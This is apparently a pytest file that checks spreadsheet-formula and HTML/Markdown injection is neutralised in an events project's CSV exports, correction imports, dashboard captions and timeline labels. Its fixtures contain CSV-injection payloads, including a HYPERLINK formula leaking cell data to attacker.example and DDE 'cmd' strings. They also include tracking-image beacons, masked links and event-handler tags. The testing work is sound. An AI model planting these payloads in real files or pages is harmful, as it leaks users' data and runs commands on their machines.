"""Hostile text on its way out (issue 13 items 4-5): no spreadsheet formula and no live markup from article text,
manifest metadata or corrections reaches an export, a caption or a row label."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from conftest import synthetic_extraction
from events.spreadsheet import FORMULA_START, neutralise_formula, restore_formula

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]


def hostile_extraction(tmp_path):
    """The synthetic extraction with attacker text in every text cell that articles, manifests or corrections fill."""
    ex = synthetic_extraction(tmp_path)
    incidents = ex.incidents.copy()
    for i, column in enumerate(("title", "evidence", "actors", "place", "date_text", "admin1", "killed_reports")):
        incidents[column] = [PAYLOADS[(i + k) % len(PAYLOADS)] for k in range(len(incidents))]
    documents = ex.documents.copy()
    documents["publisher"] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(documents))]
    documents["title"] = [PAYLOADS[(k + 3) % len(PAYLOADS)] for k in range(len(documents))]
    return incidents, ex.mentions, documents


def _is_live_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not neutralise_formula(cell) == cell


@pytest.mark.parametrize("fmt", ["csv", "acled", "timelinejs"])
def test_csv_exports_read_back_with_formulas_neutralised(tmp_path, fmt):
    from events.exports import export_bytes

    incidents, mentions, documents = hostile_extraction(tmp_path)
    data, _, _ = export_bytes(fmt, incidents, mentions, documents, corpus="hostile")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert body
    live = [(header[i], cell) for row in body for i, cell in enumerate(row) if _is_live_formula(cell)]
    assert live == []
    cells = [cell for row in body for cell in row]
    assert any(cell.startswith("'=HYPERLINK") or "'=HYPERLINK" in cell for cell in cells) or fmt != "csv"
    if fmt == "acled":  # numbers stay numbers: coordinates and fatalities
        for row in body:
            record = dict(zip(header, row))
            for column in ("latitude", "longitude", "fatalities"):
                if record[column]:
                    float(record[column])


def test_csv_export_keeps_numbers_as_numbers(tmp_path):
    from events.exports import export_bytes

    incidents, mentions, documents = hostile_extraction(tmp_path)
    incidents.loc[0, ["lat", "lon"]] = [-33.8688, -151.2093]
    data, _, _ = export_bytes("csv", incidents, mentions, documents)
    frame = pd.read_csv(io.BytesIO(data))
    assert frame["lat"].min() == pytest.approx(-33.8688) and pd.api.types.is_numeric_dtype(frame["killed"])


def test_neutralising_is_undone_exactly():
    for value in [*PAYLOADS, "''=twice", "'plain", "plain", "-12", "-33.8000", "+4", "1,234", "", "-", "'-"]:
        assert restore_formula(neutralise_formula(value)) == value
    assert neutralise_formula("-12") == "-12" and neutralise_formula("=1") == "'=1"
    assert neutralise_formula(12) == 12 and neutralise_formula(None) is None


def test_corrected_table_import_undoes_the_neutralising(tmp_path):
    from events.store import CorrectionStore, apply_corrections, export_corrected_csv, import_corrected_csv

    incidents, mentions, _ = hostile_extraction(tmp_path)
    store = CorrectionStore(tmp_path / "corrections.sqlite", incidents=incidents, mentions=mentions)
    corrected, _ = apply_corrections(incidents, mentions, store)
    data = export_corrected_csv(corrected)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows[1:] for cell in row if _is_live_formula(cell)]
    report = import_corrected_csv(store, data, corrected)
    assert report.applied == [] and report.problems == []  # the apostrophes are not read as edits
    edited = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    edited.loc[0, "title"] = "'=SUM(A1:A9)"  # an analyst's own title, as the export wrote such text
    report = import_corrected_csv(store, edited.to_csv(index=False, lineterminator="\r\n").encode(), corrected,
                                  user="sheet")
    assert len(report.applied) == 1
    assert [c.payload for c in store.corrections()][-1]["fields"] == {"title": "=SUM(A1:A9)"}


def test_timelinejs_display_date_is_escaped(tmp_path):
    from events.exports import export_bytes

    incidents, mentions, documents = hostile_extraction(tmp_path)
    incidents["date_text"] = '<img src="http://attacker.example/b.png">'
    data, _, _ = export_bytes("timelinejs", incidents, mentions, documents)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    shown = [r["Display Date"] for r in rows if r["Display Date"]]
    assert shown and all("<img" not in d and "&lt;img" in d for d in shown)


# ----------------------------------------------------------------------------------------------- markup

BEACON = "![p](http://attacker.example/beacon.png)"
MASKED = "[Wire](http://attacker.example/masked)"
LINK = "<a href='http://attacker.example/row'>Click</a>"


def hostile_loader(corpus_dir, progress=None):
    """The synthetic extraction whose documents carry a tracking image and a masked link as title and publisher,
    and whose admin areas are links (as a correction could set them)."""
    ex = synthetic_extraction(corpus_dir)
    documents = ex.documents.copy()
    documents["title"] = BEACON
    documents["publisher"] = [MASKED, BEACON, "<img src=http://attacker.example/i.png>"][: len(documents)]
    incidents = ex.incidents.copy()
    incidents["admin1"] = LINK
    from dataclasses import replace

    return replace(ex, documents=documents, incidents=incidents)


def _unescaped_markup(value: str) -> bool:
    """Markdown or HTML that would load or link: an image, a masked link or a tag whose opening is not escaped."""
    import re

    return bool(re.search(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(|(?<!\\)<(?:img|a)\b", value))


def test_detail_captions_escape_publishers_and_titles(synthetic_corpus):
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    root = Path(__file__).resolve().parent.parent
    script = f"""
import sys
sys.path[:0] = [{str(root)!r}, {str(root / 'tests')!r}]
import dashboard, test_hostile_output
dashboard.main(loader=test_hostile_output.hostile_loader, default_corpus={str(synthetic_corpus)!r})
"""
    at = AppTest.from_string(script, default_timeout=60).run()
    for incident in ("inc-paris", "inc-beirut", "inc-sinai"):  # disagreeing sources, one source, one figure
        at.selectbox(key="detail_pick").set_value(incident).run()
        assert not at.exception
        shown = [c.value for c in at.caption] + [m.value for m in at.markdown] + [e.value for e in at.error]
        assert any("attacker" in v for v in shown)
        assert [v for v in shown if _unescaped_markup(v)] == []


@pytest.mark.parametrize("group_by", ["admin1", "country", "type"])
def test_timeline_row_labels_are_text_not_links(tmp_path, group_by):
    from events import views

    ex = hostile_loader(tmp_path)
    incidents = ex.incidents.copy()
    incidents["country"] = "<b onmouseover=alert(1)>KE</b>"
    fig = views.timeline_figure(incidents, {}, group_by=group_by)
    rows = {str(y) for trace in fig.data for y in (trace.y if trace.y is not None else ())}
    rows |= {str(y) for y in fig.layout.yaxis.categoryarray or ()}
    assert rows and not [r for r in rows if "<a" in r or "<b" in r]
    if group_by == "admin1":
        assert any("&lt;a href=" in r for r in rows)


def test_html_briefing_timeline_rows_are_text_not_links(tmp_path):
    from events.exports.figures import export_figures

    ex = hostile_loader(tmp_path)
    timeline, _ = export_figures(ex.incidents, ex.documents, group_by="admin1")
    rows = {str(y) for trace in timeline.data for y in (trace.y if trace.y is not None else ())}
    assert rows and not [r for r in rows if "<a" in r]
